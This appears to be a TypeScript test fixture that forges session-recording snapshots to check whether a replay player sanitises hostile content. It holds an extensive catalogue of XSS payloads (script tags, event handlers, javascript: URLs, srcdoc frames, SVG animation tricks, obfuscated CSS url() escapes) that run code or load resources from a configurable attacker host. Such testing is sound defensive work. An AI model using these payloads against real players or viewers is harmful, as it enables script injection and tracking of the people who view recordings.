/** Nodes that attack who plays a recording. Each either calls `pwn` in the player's window or loads from a host. */
export class Forge {
  #id = 0;

  constructor(readonly evil: string) {}

  id(): number {
    this.#id += 1;
    return this.#id;
  }

  /** A script that tells who runs it, by a variable and by a request. */
  pwn(name: string): string {
    const push = (window: string) => `try{${window}.__pwned.push('${name}')}catch(e){};`;
    return `${push("parent")}${push("top")}new Image().src='${this.evil}/js-${name}'`;
  }

  element(tagName: string, attributes: object = {}, childNodes: unknown[] = [], more = {}) {
    return { type: 2, id: this.id(), tagName, attributes, childNodes, ...more };
  }

  svg(tagName: string, attributes: object = {}, childNodes: unknown[] = []) {
    return this.element(tagName, attributes, childNodes, { isSVG: true });
  }

  text(textContent: string, more: object = {}) {
    return { type: 3, id: this.id(), textContent, ...more };
  }

  document(children: unknown[]) {
    const body = this.element(
      "body",
      {
        onload: this.pwn("body-onload"),
        background: `${this.evil}/body-background`,
        onpageshow: this.pwn("pageshow"),
      },
      children,
    );
    const attributes = { manifest: `${this.evil}/appcache`, onload: this.pwn("html-onload") };
    const html = this.element("html", attributes, [this.element("head"), body]);
    const publicId = `"><script>${this.pwn("doctype")}</script>`;
    const doctype = { type: 1, id: this.id(), name: "html", publicId, systemId: "" };
    return { document: { type: 0, id: this.id(), childNodes: [doctype, html] }, body };
  }
}

type Attack = (forge: Forge) => unknown[];

/** The content of the forged page's body, by a name. */
export const attacks: Readonly<Record<string, Attack>> = {
  script: (f) => [f.element("script", {}, [f.text(f.pwn("script"))])],
  "script in capitals": (f) => [
    f.element("SCRIPT", {}, [f.text(f.pwn("script-upper"))]),
    f.element("ScRiPt", { src: `${f.evil}/script-src` }),
  ],
  "script of a drawing": (f) => [
    f.svg("svg", {}, [
      f.svg("script", {}, [f.text(f.pwn("script-svg"))]),
      f.svg("script", { "xlink:href": `${f.evil}/svg-script` }),
    ]),
  ],
  modules: (f) => [
    f.element("script", { type: "module", src: `${f.evil}/module` }),
    f.element("link", { rel: "modulepreload", href: `${f.evil}/modulepreload` }),
  ],
  "handlers of pictures": (f) => [
    f.element("img", { src: "x", onerror: f.pwn("img-onerror") }),
    f.element("img", { src: "x", OnError: f.pwn("img-OnError") }),
    f.svg("svg", { onload: f.pwn("svg-onload") }),
  ],
  handlers: (f) => [
    f.element("input", { autofocus: "", onfocus: f.pwn("onfocus") }),
    f.element("details", { open: "", ontoggle: f.pwn("ontoggle") }),
    f.element("video", { src: "x", onerror: f.pwn("video-onerror") }),
    f.element("div", { onanimationstart: f.pwn("animation"), style: "animation:x 1s" }),
    f.element("style", {}, [f.text("@keyframes x{from{left:0}to{left:1px}}")]),
    f.element("div", { onpointerrawupdate: f.pwn("pointer"), onfocusin: f.pwn("focusin") }),
  ],
  "script addresses": (f) => [
    f.element("a", { href: `javascript:${f.pwn("js-href")}` }, [f.text("x")]),
    f.element("a", { href: `java\nscript:${f.pwn("js-href-line")}` }, [f.text("x")]),
    f.element("iframe", { src: `javascript:${f.pwn("js-iframe")}` }),
    f.element("iframe", { rr_src: `javascript:${f.pwn("rr-src")}` }),
  ],
  frames: (f) => [
    f.element("iframe", { src: `data:text/html,<script>${f.pwn("data-iframe")}</script>` }),
    f.element("iframe", { src: `${f.evil}/iframe` }),
    f.element("frame", { src: `${f.evil}/frame` }),
    f.element("portal", { src: `${f.evil}/portal` }),
  ],
  srcdoc: (f) => [
    f.element("iframe", {
      srcdoc: `<script>${f.pwn("srcdoc")}</script><img src=x onerror="${f.pwn("srcdoc-img")}">`,
    }),
    f.element("iframe", {
      sandbox: "allow-scripts allow-same-origin allow-top-navigation",
      srcdoc: `<script>${f.pwn("iframe-sandbox")}</script><img src="${f.evil}/srcdoc-load">`,
    }),
  ],
  "a document in a frame": (f) => [
    f.element("iframe", {}, [
      f.document([
        f.element("img", { src: `${f.evil}/inner`, onerror: f.pwn("inner") }),
        f.element("script", {}, [f.text(f.pwn("inner-script"))]),
      ]).document,
    ]),
  ],
  forms: (f) => [
    f.element("form", { action: `javascript:${f.pwn("action")}`, id: "f" }, [
      f.element("button", { formaction: `javascript:${f.pwn("formaction")}`, type: "submit" }),
    ]),
    f.element("form", { action: `${f.evil}/form`, target: "_top" }),
  ],
  "meta and base": (f) => [
    f.element("meta", { "http-equiv": "refresh", content: `0;url=${f.evil}/refresh` }),
    f.element("meta", {
      "http-equiv": "Content-Security-Policy-Report-Only",
      content: `default-src 'none'; report-uri ${f.evil}/csp-report`,
    }),
    f.element("base", { href: `${f.evil}/base/`, target: "_top" }),
    f.element("img", { src: "relative.png" }),
  ],
  objects: (f) => [
    f.element("object", { data: `${f.evil}/object` }),
    f.element("embed", { src: `${f.evil}/embed` }),
    f.element("object", { data: `data:text/html,<script>${f.pwn("object")}</script>` }),
    f.element("applet", { archive: `${f.evil}/applet` }),
  ],
  "uses and animations": (f) => [
    f.svg("svg", {}, [
      f.svg("use", { "xlink:href": `${f.evil}/sprite.svg#a` }),
      f.svg("a", { id: "sa" }, [
        f.svg("animate", { attributeName: "href", values: `javascript:${f.pwn("animate")}` }),
        f.svg("set", { attributeName: "xlink:href", to: `javascript:${f.pwn("set")}` }),
      ]),
      f.svg("animate", { onbegin: f.pwn("onbegin"), attributeName: "x", dur: "1s" }),
    ]),
  ],
  "foreign objects": (f) => [
    f.svg("svg", {}, [
      f.svg("foreignObject", {}, [
        f.element("iframe", { srcdoc: `<script>${f.pwn("foreign")}</script>` }),
        f.element("img", { src: `${f.evil}/foreign`, onerror: f.pwn("foreign-img") }),
      ]),
      f.svg("image", { href: `${f.evil}/svg-image`, onerror: f.pwn("svg-image") }),
      f.svg("feImage", { href: `${f.evil}/feimage` }),
      f.svg("style", {}, [f.text(`@import url(${f.evil}/svg-style)`)]),
    ]),
    f.element("math", {}, [f.element("maction", { "xlink:href": `javascript:${f.pwn("math")}` })]),
  ],
  "style sheets": (f) => [
    f.element("style", {}, [
      f.text(
        `@import url(${f.evil}/css-import);@import "${f.evil}/css-import2";body{background:url(${f.evil}/css-url)}` +
          `@font-face{font-family:e;src:url(${f.evil}/css-font)}h1{font-family:e}`,
        { isStyle: true },
      ),
    ]),
    f.element("h1", {}, [f.text("text in a font")]),
    f.element(
      "style",
      { _cssText: `body{cursor:url(${f.evil}/cursor),auto;list-style:url(${f.evil}/list)}` },
      [f.text("")],
    ),
  ],
  "escapes of CSS": (f) => [
    f.element("style", {}, [
      f.text(
        `p{background:\\75 rl(${f.evil}/esc1)}q{background:u\\rl("${f.evil}/esc2")}` +
          `b{background:image-set("${f.evil}/esc3" 1x)}@\\69mport "${f.evil}/esc5";` +
          `em{background:URL( '${f.evil}/esc6' )}s{background:url(\n${f.evil}/esc7\n)}` +
          `i{background:ur\\6\\63 (${f.evil}/esc8)}`,
      ),
    ]),
    ...["p", "q", "b", "i", "em", "s"].map((tag) => f.element(tag, {}, [f.text("x")])),
  ],
  "CSS in halves": (f) => [
    f.element("style", {}, [f.text("p{background:ur"), f.text(`l(${f.evil}/halves)}`)]),
    f.element("style", { _cssText: `q{background:ur/* rr_split */l(${f.evil}/split)}` }, [
      f.text(""),
      f.text(""),
    ]),
    f.element("style", {}, [
      f.text(`p{content:" url('data:image/svg+xml,x;}body{background:url(${f.evil}/quote)}') "}`),
    ]),
    f.element("p", {}, [f.text("x")]),
    f.element("q", {}, [f.text("x")]),
  ],
  links: (f) =>
    ["stylesheet", "prefetch", "icon", "manifest", "dns-prefetch"]
      .map((rel) => f.element("link", { rel, href: `${f.evil}/${rel}` }))
      .concat(f.element("link", { rel: "preload", as: "image", href: `${f.evil}/preload` })),
  "style attributes": (f) => [
    f.element("div", { style: `background:url(${f.evil}/style);-moz-binding:url(${f.evil}/xbl)` }),
    f.element("div", { style: `background-image:image-set('${f.evil}/style-set' 1x)` }),
    f.element("table", { background: `${f.evil}/background` }),
    f.element("div", { style: `mask:url("${f.evil}/mask");border-image:url(${f.evil}/border) 1` }),
  ],
  pictures: (f) => [
    f.element("img", { src: `${f.evil}/img` }),
    f.element("img", { srcset: `${f.evil}/srcset 1x` }),
    f.element("picture", {}, [
      f.element("source", { srcset: `${f.evil}/picture` }),
      f.element("img"),
    ]),
    f.element("input", { type: "image", src: `${f.evil}/input-image` }),
    f.element("video", { poster: `${f.evil}/poster`, src: `${f.evil}/video` }),
    f.element("audio", { src: `${f.evil}/audio`, autoplay: "" }),
  ],
  "attributes of the library": (f) => [
    f.element("img", { src: "x", rr_dataURL: `${f.evil}/rr-img` }),
    f.element("canvas", { rr_dataURL: `${f.evil}/rr-canvas` }),
    f.element("video", { src: `${f.evil}/rr-video`, rr_mediaState: "played" }),
    f.element("div", { rr_width: `1px;background:url(${f.evil}/rr-width)`, rr_height: "x" }),
  ],
  "shadow trees": (f) => [
    f.element(
      "div",
      {},
      [
        f.element("style", {}, [f.text(`:host{background:url(${f.evil}/shadow)}`)], {
          isShadow: true,
        }),
        f.element("img", { src: "x", onerror: f.pwn("shadow") }, [], { isShadow: true }),
      ],
      { isShadowHost: true },
    ),
  ],
  "elements that read text": (f) => [
    f.element("noscript", {}, [f.text(`<img src="${f.evil}/noscript">`)]),
    f.element("template", {}, [f.element("script", {}, [f.text(f.pwn("template"))])]),
    f.element("textarea", { value: `</textarea><script>${f.pwn("textarea")}</script>` }),
    f.element("title", {}, [f.text(`</title><script>${f.pwn("title")}</script>`)]),
    f.element("x-evil", { onclick: f.pwn("custom") }, [], { isCustom: true }),
  ],
};
